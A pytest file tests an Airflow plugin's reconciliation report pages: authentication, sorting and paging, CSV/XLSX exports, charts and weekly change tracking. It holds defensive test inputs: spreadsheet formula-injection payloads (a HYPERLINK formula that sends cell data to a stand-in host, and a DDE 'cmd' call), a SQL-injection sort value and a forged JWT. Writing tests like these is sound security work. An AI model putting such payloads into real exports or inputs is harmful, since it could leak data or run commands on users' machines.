"""The analysts' pages as the api-server serves them: Airflow's own FastAPI app (create_app, with
our plugin from plugins/ mounted at /icbridge) in a TestClient, with tokens made the way the
api-server makes them (the auth manager's generate_jwt). Auth, content, sort/filter/paging,
downloads parsed back, and the charts and exports on their own."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC
from decimal import Decimal
from zoneinfo import ZoneInfo

import jwt
import pytest

from icbridge.reconcile.charts import RatePoint, histogram_svg, mismatch_rate_svg
from icbridge.state.reconcile import ReconcileStore
from tests.support.web import HTML, ITEMS, bearer, seed_runs, token

pytestmark = pytest.mark.usefixtures("airflow_db")
D = Decimal
@pytest.fixture
def state(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'state.db'}"
    monkeypatch.setenv("ICBRIDGE_STATE_DB_URL", url)
    store = ReconcileStore(url)
    run_id = seed_runs(store)
    yield store, run_id
    store.dispose()


# auth -------------------------------------------------------------------------------------------


def test_plugin_is_registered_with_a_nav_entry(api):
    response = api.get("/api/v2/plugins", headers=bearer(token("admin", "ADMIN")))
    assert response.status_code == 200, response.text
    [plugin] = [p for p in response.json()["plugins"] if p["name"] == "icbridge_reports"]
    assert plugin["fastapi_apps"][0]["url_prefix"] == "/icbridge"
    [view] = [v for v in plugin["external_views"] if v["name"] == "Balance All"]
    assert view["name"] == "Balance All" and view["url_route"] == "balance-all" and not view["href"].startswith("/")


@pytest.mark.parametrize("path", ["/icbridge/balance-all/", "/icbridge/balance-all/runs/{run}",
                                  "/icbridge/balance-all/runs/{run}/items.csv",
                                  "/icbridge/balance-all/runs/{run}/items.xlsx"])
def test_anonymous_is_refused(api, state, path):
    url = path.format(run=state[1])
    response = api.get(url)
    assert response.status_code == 401 and response.headers["www-authenticate"] == "Bearer"
    assert "ACC" not in response.text and "100040" not in response.text
    page = api.get(url, headers=HTML)  # a browser is sent to Airflow's login, and back afterwards
    assert page.status_code == 303
    assert re.match(r"^/auth/login\?next=http%3A%2F%2F127\.0\.0\.1%2Ficbridge%2Fbalance-all", page.headers["location"])


def test_bad_tokens_are_refused(api, state):
    forged = jwt.encode({"sub": "admin", "role": "ADMIN", "aud": "apache-airflow"}, "not-the-secret-" * 4, "HS256")
    for value in (forged, "garbage", token() + "x"):
        assert api.get("/icbridge/balance-all/", headers=bearer(value)).status_code == 401
        assert api.get("/icbridge/balance-all/", cookies={"_token": value}).status_code == 401
    expired = jwt.decode(token(), options={"verify_signature": False})
    assert "exp" in expired  # Airflow's tokens expire; an expired one fails the same validation


def test_valid_token_by_header_or_cookie(api, state):
    assert api.get("/icbridge/balance-all/", headers=bearer()).status_code == 200
    api.cookies.set("_token", token())
    try:
        assert api.get("/icbridge/balance-all/").status_code == 200
    finally:
        api.cookies.clear()


# pages ------------------------------------------------------------------------------------------


def test_runs_page_lists_runs_per_biller_with_summary(api, state):
    page = api.get("/icbridge/balance-all/", headers=bearer()).text
    assert "demo_inhance" in page and "2026-W45" in page and "2026-W42" in page
    assert f'href="runs/{state[1]}"' in page
    assert "failed_threshold" in page and "analyst" in page


def _rows(html: str) -> list[dict[str, str]]:
    """The item table's rows, each cell by its column's code name (the header's title)."""
    body = html.split('<table class="items" id="items">', 1)[1].split("</table>", 1)[0]
    head, rows_html = body.split("<tbody>", 1)
    names = re.findall(r'<th title="(\w+)">', head) + ["correction"]
    rows = re.findall(r"<tr>(.*?)</tr>", rows_html, re.S)
    return [dict(zip(names, re.findall(r"<td[^>]*>(.*?)</td>", row, re.S), strict=True)) for row in rows]


def test_run_page_summary_charts_and_first_page(api, state):
    store, run_id = state
    response = api.get(f"/icbridge/balance-all/runs/{run_id}", headers=bearer())
    assert response.status_code == 200
    assert "default-src 'none'" in response.headers["content-security-policy"]
    page = response.text
    assert "<script" not in page and "http://" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert page.count("<svg") == 2 and 'class="bar"' in page
    assert ">10/18</text>" in page.split('id="chart-rate"', 1)[1]  # past weeks (ending 10/18/2026: 2026-W42)
    rows = _rows(page)
    assert len(rows) == 100 and rows[0]["account_number"] == "100040"  # default: account order, matches not stored
    assert "page 1 of 3" in page
    assert f"CIS errors ({store.run(run_id).counts['cis_error']})" in page  # labels people read
    assert ">cis_error" not in page and ">balance_mismatch" not in page  # code names only in URLs


def test_run_page_sort_filter_and_paging(api, state):
    store, run_id = state
    url = f"/icbridge/balance-all/runs/{run_id}"
    rows = _rows(api.get(url, params={"sort": "difference", "desc": 1}, headers=bearer()).text)
    # money as $1,234.56
    differences = [D(r["difference"].replace("$", "").replace(",", "")) for r in rows if r["difference"]]
    assert differences == sorted(differences, reverse=True) and differences[0] == D(f"{50 + ITEMS + 39}.25") - 50
    only = api.get(url, params={"outcome": "missing_in_cis", "per_page": 10, "page": 2}, headers=bearer()).text
    rows = _rows(only)
    assert len(rows) == 10 and {r["outcome"] for r in rows} == {"Missing in the CIS"}
    expected = [r["account_number"] for r in store.items(run_id, outcome="missing_in_cis", offset=10, limit=10)]
    assert [r["account_number"] for r in rows] == expected
    last = api.get(url, params={"page": 99}, headers=bearer()).text  # past the end: the last page
    assert "page 3 of 3" in last and len(_rows(last)) == ITEMS - 200
    assert api.get(url, params={"sort": "id; drop table"}, headers=bearer()).status_code == 400
    assert api.get(url, params={"outcome": "nonsense"}, headers=bearer()).status_code == 400
    assert api.get("/icbridge/balance-all/runs/999999", headers=bearer()).status_code == 404


def test_csv_download_parses_back(api, state):
    store, run_id = state
    response = api.get(f"/icbridge/balance-all/runs/{run_id}/items.csv", params={"outcome": "balance_mismatch"},
                       headers=bearer())
    assert response.status_code == 200 and "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == store.count_items(run_id, "balance_mismatch")
    first = rows[0]
    assert first["account_number"] == "100042" and first["outcome"] == "balance_mismatch"
    assert D(first["difference"]) == D("42.25") and first["corrected"] == "false"


def test_xlsx_download_parses_back(api, state):
    from openpyxl import load_workbook

    store, run_id = state
    response = api.get(f"/icbridge/balance-all/runs/{run_id}/items.xlsx", headers=bearer())
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True)}
    assert summary["Biller"] == "demo_inhance" and summary["Accounts checked"] == ITEMS + 40
    rows = list(workbook["Items"].iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert len(data) == ITEMS
    record = dict(zip(header, data[2], strict=False))  # read-only mode drops trailing empty cells
    assert record["account_number"] == "100042" and D(str(record["difference"])) == D("42.25")


# renderers alone --------------------------------------------------------------------------------


def test_histogram_bins_every_difference():
    svg = histogram_svg([D("-5"), D("-1"), D("0.5"), D("2"), D("2.01"), D("10")], bins=5)
    counts = [int(n) for n in re.findall(r": (\d+) accounts</title>", svg)]
    assert sum(counts) == 6 and svg.startswith("<svg") and "6 accounts" in svg
    assert "No balance differences" in histogram_svg([])


def test_rate_chart_marks_the_current_run():
    svg = mismatch_rate_svg([RatePoint("2026-W44", 2.0, 0.0), RatePoint("2026-W45", 5.5, 1.0, current=True)])
    assert "2026-W45: mismatches 5.50 %" in svg and svg.count('class="bar"') == 2 and "#e4572e" in svg


def test_csv_streams_100k_rows_in_chunks():
    from icbridge.reconcile.export import csv_chunks

    rows = ({"account_number": str(i), "outcome": "balance_mismatch", "difference": D("1.10")} for i in range(100_000))
    chunks = 0
    lines = 0
    for chunk in csv_chunks(rows, rows_per_chunk=5000):
        chunks += 1
        lines += chunk.count(b"\r\n")
    assert lines == 100_001 and chunks == 21


HOSTILE_TEXT = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                "\tTAB", "\rCR", "0042"]


def test_exports_never_carry_a_live_formula(tmp_path):
    """Text from IC/the CIS that starts like a formula is neutralised in the CSV (OWASP: a
    leading quote) and stored as text in the XLSX; money stays numeric, account numbers keep
    their leading zeros."""
    from openpyxl import load_workbook

    from icbridge.reconcile.export import csv_chunks, write_xlsx

    rows = [{"account_number": text, "invoice_number": text, "message": text, "outcome": "cis_error",
             "difference": D("-3.10")} for text in HOSTILE_TEXT]
    parsed = list(csv.DictReader(io.StringIO(b"".join(csv_chunks(rows)).decode("utf-8"), newline="")))
    for text, row in zip(HOSTILE_TEXT, parsed, strict=True):
        for column in ("account_number", "invoice_number", "message"):
            expected = text if text == "0042" else "'" + text
            assert row[column] == expected
        assert row["difference"] == "-3.10"  # money is a number, not neutralised text

    path = tmp_path / "items.xlsx"
    write_xlsx(path, _xlsx_run(biller_id="=cmd", accounts_checked=7, message="=1+1"), rows)  # type: ignore[arg-type]
    workbook = load_workbook(path)
    items = workbook["Items"]
    header = [c.value for c in items[1]]
    for line, text in enumerate(HOSTILE_TEXT, start=2):
        for column in ("account_number", "invoice_number", "message"):
            cell = items.cell(line, header.index(column) + 1)
            assert cell.data_type == "s" and cell.value == text  # text, never a formula
        money = items.cell(line, header.index("difference") + 1)
        assert money.data_type == "n" and D(str(money.value)) == D("-3.10")
    summary = {row[0].value: row[1] for row in workbook["Summary"].iter_rows()}
    assert summary["Biller"].data_type == "s" and summary["Message"].value == "=1+1"
    assert summary["Message"].data_type == "s"


@pytest.mark.parametrize("weeks", [3, 12, 26])
def test_rate_chart_labels_never_overlap_and_this_run_is_always_labelled(weeks):
    from icbridge.reconcile.charts import CHAR_W

    points = [RatePoint(f"{(i % 12) + 1:02d}/{(i % 28) + 1:02d}", 1.0, 0.0) for i in range(weeks - 1)]
    points.append(RatePoint("12/06 dry run", 2.0, 0.0, current=True))
    svg = mismatch_rate_svg(points)
    axis = re.findall(r'<text x="([\d.]+)" y="\d+" text-anchor="middle">([^<]+)</text>', svg)
    labels = [(float(x), text) for x, text in axis if "/" in text]
    assert labels[-1][1] == "12/06 dry run" and len(labels) >= min(weeks, 8)
    for (x1, a), (x2, b) in zip(labels, labels[1:], strict=False):
        assert x2 - x1 >= (len(a) + len(b)) * CHAR_W / 2, (a, b)  # no two labels overlap


def test_chart_labels_tell_runs_of_the_same_week_apart():
    from datetime import datetime
    from types import SimpleNamespace

    from icbridge.web.balance_all import run_labels

    runs = [SimpleNamespace(week="2026-W47", started_at=datetime(2026, 11, 22, 2, 0), dag_run_id="scheduled__1"),
            SimpleNamespace(week="2026-W48", started_at=datetime(2026, 11, 29, 2, 0), dag_run_id="scheduled__2"),
            SimpleNamespace(week="2026-W48", started_at=datetime(2026, 11, 29, 23, 41), dag_run_id="manual__3",
                            dry_run=True)]
    assert run_labels(runs) == ["11/22", "11/29 weekly", "11/29 dry run"]


def test_a_wrong_url_answers_a_page_and_blank_values_sort_last(api, state):
    store, run_id = state
    page = api.get("/icbridge/balance-all/runs/999999", headers={**bearer(), "Accept": "text/html"})
    assert page.status_code == 404 and page.text.startswith("<!doctype html>")
    assert "no Balance All run 999999" in page.text
    assert "balance-all/" in page.text  # a way back
    assert api.get("/icbridge/balance-all/runs/999999", headers={**bearer(), "Accept": "application/json"}).json() == {
        "detail": "no Balance All run 999999"}
    nowhere = api.get("/icbridge/no-such-page", headers={**bearer(), "Accept": "text/html"})
    assert nowhere.status_code == 404 and "<h1>404" in nowhere.text
    for desc in (0, 1):
        rows = list(store.items(run_id, sort="difference", descending=bool(desc), offset=0, limit=10_000))
        blanks = [i for i, r in enumerate(rows) if r["difference"] is None]
        assert blanks and blanks == list(range(len(rows) - len(blanks), len(rows)))  # nulls last, both ways


def test_the_histogram_shows_zero_differences_of_total_only_mismatches(tmp_path):
    from icbridge.reconcile.charts import histogram_svg

    svg = histogram_svg([D("0.00"), D("0.00"), D("-10.00")])
    counts = [int(n) for n in re.findall(r": (\d+) accounts</title>", svg)]
    assert sorted(counts) == [1, 2]  # the two zeros are a bar of their own


def test_a_control_character_from_a_peer_never_fails_the_workbook(tmp_path):
    """Issue 22 item 9: a gateway's error-page title with a BEL and an ESC kept in an item's
    message (and in the run's): the XLSX is written whole, the characters replaced (U+FFFD);
    texts taken from peers are cleaned where they enter (AnswerError)."""
    from openpyxl import load_workbook

    from icbridge.reconcile.export import write_xlsx
    from icbridge.soap.errors import HttpStatusError

    entered = HttpStatusError("inhance", "BalanceCheck", 502, title="Gateway\x07 \x1b[31mdown")
    assert "\x07" not in str(entered) and "\x1b" not in str(entered) and "Gateway\ufffd" in str(entered)
    rows = [{"account_number": "1001", "message": "Gateway\x07 timeout\x00", "outcome": "cis_error"}]

    path = tmp_path / "items.xlsx"
    assert write_xlsx(path, _xlsx_run(message="run note \x0b"), rows) == 1  # type: ignore[arg-type]
    workbook = load_workbook(path)
    header = [c.value for c in workbook["Items"][1]]
    assert workbook["Items"].cell(2, header.index("message") + 1).value == "Gateway\ufffd timeout\ufffd"
    summary = {row[0].value: row[1].value for row in workbook["Summary"].iter_rows()}
    assert summary["Message"] == "run note \ufffd"


def _xlsx_run(**values):
    """What write_xlsx reads of a run (a RunRow's fields), with ``values`` changed."""
    from types import SimpleNamespace

    fields = dict(biller_id="b1", week="2026-W48", id=1, dag_run_id="", started_at=None, finished_at=None,
                  status="succeeded", dry_run=False, accounts_checked=1, counts={}, sum_abs_difference=D("0"),
                  net_difference=D("0"), corrections_made=0, corrections_failed=0, error_threshold_pct=5.0,
                  message="")
    return SimpleNamespace(**{**fields, **values})


def test_balance_all_pages_speak_the_readers_form_and_one_name_per_outcome(api, state):
    """Issue 24: money as $1,234.56 (a minus for a negative), weeks as "week ending MM/DD/YYYY",
    the run's kind (weekly, manual, dry run), times in the biller's zone named, and every outcome
    under one name on the index, the run page and the XLSX summary."""
    import io

    from openpyxl import load_workbook

    from icbridge.reconcile.compare import OUTCOME_LABELS
    from icbridge.web.reader import money, week_ending

    assert (money(D("1234.5")), money(D("-25")), money(None)) == ("$1,234.50", "-$25.00", "")
    assert week_ending("2026-W49") == "week ending 12/06/2026"
    store, run_id = state
    index = api.get("/icbridge/balance-all/", headers=bearer()).text
    run = api.get(f"/icbridge/balance-all/runs/{run_id}", headers=bearer()).text
    assert "week ending 11/08/2026" in index and "week ending 11/08/2026" in run  # 2026-W45
    assert ">dry run<" in index and ">weekly<" in index and "(2026-W45, dry run)" in run
    assert " EST" in run or " EDT" in run or " UTC" in run
    net = store.run(run_id).net_difference
    assert money(net) in index and money(net) in run
    workbook = load_workbook(io.BytesIO(api.get(f"/icbridge/balance-all/runs/{run_id}/items.xlsx",
                                                headers=bearer()).content))
    sheet_labels = {row[0] for row in workbook["Summary"].iter_rows(values_only=True)}
    [net_cell] = [row[1] for row in workbook["Summary"].iter_rows() if row[0].value == "Net difference"]
    assert net_cell.value == net and "$" in net_cell.number_format  # a number, shown as money
    for outcome in ("balance_mismatch", "flags_mismatch", "missing_in_cis", "cis_error"):
        label = OUTCOME_LABELS[outcome]
        assert f"<th>{label}</th>" in index and label in run and label in sheet_labels, label


# what changed since last week (issue 24) --------------------------------------------------------


@pytest.fixture
def two_weeks(tmp_path, monkeypatch):
    """demo_inhance (version 2: total-due columns, no payment blocks): week 47 reports A (balance
    +5.00), B (total due alone -25.00), C (missing in the CIS); a dry and a manual run between;
    week 48 reports A (+7.00) and D (+2.00)."""
    from icbridge.reconcile.compare import Outcome
    from tests.support.web import store_run

    url = f"sqlite:///{tmp_path / 'state.db'}"
    monkeypatch.setenv("ICBRIDGE_STATE_DB_URL", url)
    store = ReconcileStore(url)
    bal, tot, miss = Outcome.BALANCE_MISMATCH, Outcome.TOTAL_MISMATCH, Outcome.MISSING_IN_CIS
    first = store_run(store, "demo_inhance", "2026-W47", {"A": (bal, "5.00"), "B": (tot, "-25.00"), "C": (miss, None)})
    store_run(store, "demo_inhance", "2026-W48", {"Z": (bal, "99.00")}, dry=True)
    store_run(store, "demo_inhance", "2026-W48", {"Z": (bal, "99.00")}, kind="manual")
    second = store_run(store, "demo_inhance", "2026-W48", {"A": (bal, "7.00"), "D": (bal, "2.00")})
    yield store, first, second
    store.dispose()


def test_the_index_shows_this_week_against_last_week_and_a_trend(api, two_weeks):
    store, first, second = two_weeks
    page = api.get("/icbridge/balance-all/", headers=bearer()).text
    table = page.split('id="weeks"', 1)[1].split("</table>", 1)[0]
    cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", table, re.S)]
    # latest weekly run (not the manual or dry one), mismatches 2 (±0), net $9.00 (+$29.00 from -$20.00),
    # sum $9.00 (-$21.00 from $30.00: B's -25.00 counts), 1 new, 1 still open, 2 resolved
    assert cells[:11] == ["demo_inhance", f"#{second} week ending 11/29/2026", "2", "±0", "$9.00", "+$29.00",
                          "$9.00", "-$21.00", "1", "1", "2"]
    assert table.count('class="point"') == 2 and "week ending 11/22/2026: 2" in table  # one point a weekly run


def test_the_run_page_marks_each_item_and_lists_what_was_resolved(api, two_weeks):
    store, first, second = two_weeks
    url = f"/icbridge/balance-all/runs/{second}"
    page = api.get(url, headers=bearer()).text
    assert f'href="{first}"' in page and "<b>1</b> new, <b>1</b> still open" in page
    rows = {r["account_number"]: r for r in _rows(page)}
    opened = store.run(first).started_at.replace(tzinfo=UTC).astimezone(ZoneInfo("America/New_York"))
    assert re.sub("<[^>]+>", "", rows["A"]["change"]) == "still open since " + opened.strftime("%m/%d/%Y")
    assert 'title="Balance mismatches"' in rows["A"]["change"] and re.sub("<[^>]+>", "", rows["D"]["change"]) == "new"
    assert "ic_total_amount_due" in rows["A"] and "ic_block_cc" not in rows["A"]  # inHance v2: no payment blocks
    resolved = page.split('id="resolved-items"', 1)[1].split("</table>", 1)[0]
    assert "Total-due mismatches" in resolved and "-$25.00" in resolved and "Missing in the CIS" in resolved
    only_new = _rows(api.get(url, params={"change": "new"}, headers=bearer()).text)
    assert [r["account_number"] for r in only_new] == ["D"]
    assert api.get(url, params={"change": "resolved"}, headers=bearer()).status_code == 400


def test_the_downloads_carry_the_same_marks(api, two_weeks):
    from datetime import datetime

    from openpyxl import load_workbook

    store, first, second = two_weeks
    response = api.get(f"/icbridge/balance-all/runs/{second}/items.csv", headers=bearer())
    marks = {r["account_number"]: (r["change"], r["previous_outcome"])
             for r in csv.DictReader(io.StringIO(response.text))}
    assert marks == {"A": ("still_open", "balance_mismatch"), "D": ("new", "")}
    response = api.get(f"/icbridge/balance-all/runs/{second}/items.xlsx", headers=bearer())
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True)}
    assert (summary["Compared with run"], summary["Resolved since last week"], summary["New since last week"]) == (
        first, 2, 1)
    header, *items = list(workbook["Items"].iter_rows(values_only=True))
    a = dict(zip(header, next(r for r in items if r[0] == "A"), strict=False))
    assert a["change"] == "still_open" and isinstance(a["open_since"], datetime)
    header, *gone = list(workbook["Resolved"].iter_rows(values_only=True))
    assert {r[0]: (r[2], r[3]) for r in gone} == {"B": ("total_mismatch", -25), "C": ("missing_in_cis", None)}


def test_a_run_that_checked_none_or_far_fewer_accounts_is_a_warning_not_a_success(api, tmp_path, monkeypatch):
    from icbridge.reconcile.compare import Outcome
    from icbridge.reconcile.engine import Summary
    from icbridge.state.reconcile import SUCCEEDED
    from tests.support.web import store_run

    url = f"sqlite:///{tmp_path / 'state.db'}"
    monkeypatch.setenv("ICBRIDGE_STATE_DB_URL", url)
    store = ReconcileStore(url)
    bal = Outcome.BALANCE_MISMATCH
    full = store_run(store, "demo_inhance", "2026-W47", {f"A{i}": (bal, "1.00") for i in range(10)})
    few = store_run(store, "demo_inhance", "2026-W48", {"A1": (bal, "1.00"), "A2": (bal, "1.00")})  # 2 of 10
    empty = store.start_run("demo_inhance", "2026-W49", dag_run_id="scheduled__2026-W49", dry_run=False,
                            corrections_allowed=False, error_threshold_pct=2)
    store.finish_run(empty, Summary(), SUCCEEDED)
    index = api.get("/icbridge/balance-all/", headers=bearer()).text
    rows = {int(m[0]): m[1] for m in re.findall(r'<a href="runs/(\d+)">#\d+</a></td>(.*?)</tr>', index, re.S)}
    assert "warning" not in rows[full] and "succeeded: warning,\n2 accounts checked" in rows[few]
    assert "succeeded: warning,\n0 accounts checked" in rows[empty]
    page = api.get(f"/icbridge/balance-all/runs/{few}", headers=bearer()).text
    assert 'id="coverage-warning"' in page and "2 accounts checked, 10 the weekly run before" in page
    page = api.get(f"/icbridge/balance-all/runs/{empty}", headers=bearer()).text
    assert "0 accounts checked: IC listed no open invoice" in page
    assert 'id="coverage-warning"' not in api.get(f"/icbridge/balance-all/runs/{full}", headers=bearer()).text
    store.dispose()


@pytest.mark.parametrize("change", ["no cis_service", "rtdr_version 1"])
def test_a_stored_total_due_mismatch_shows_its_values_whatever_the_biller_file_says_now(api, two_weeks, tmp_path,
                                                                                     monkeypatch, change):
    """The biller file changed after the run (version 2 turned off, or its cis_service gone): the
    page still renders and still shows the total-due columns its total-due mismatch needs."""
    import shutil

    import yaml

    from tests.support.services import REPO

    store, first, _ = two_weeks
    billers = tmp_path / "billers"
    shutil.copytree(REPO / "include" / "billers", billers)
    raw = yaml.safe_load((billers / "demo_inhance.yaml").read_text())
    if change == "no cis_service":
        for section in ("cis_service", "balance_all", "sync"):
            raw.pop(section, None)
    else:
        raw["cis_service"]["rtdr_version"] = 1
    (billers / "demo_inhance.yaml").write_text(yaml.safe_dump(raw))
    monkeypatch.setenv("ICBRIDGE_BILLERS_DIR", str(billers))
    response = api.get(f"/icbridge/balance-all/runs/{first}", headers=bearer())
    assert response.status_code == 200, response.text[:500]
    rows = {r["account_number"]: r for r in _rows(response.text)}
    assert rows["B"]["total_difference"] == "-$25.00" and rows["B"]["outcome"] == "Total-due mismatches"


def test_the_csv_gives_times_in_utc_with_the_offset_and_the_filter_in_the_name(api, two_weeks):
    store, _, second = two_weeks
    response = api.get(f"/icbridge/balance-all/runs/{second}/items.csv", params={"change": "still_open"},
                       headers=bearer())
    assert f"run{second}_still_open.csv" in response.headers["content-disposition"]
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["account_number"] == "A" and row["open_since"].endswith("+00:00") and "T" in row["open_since"]
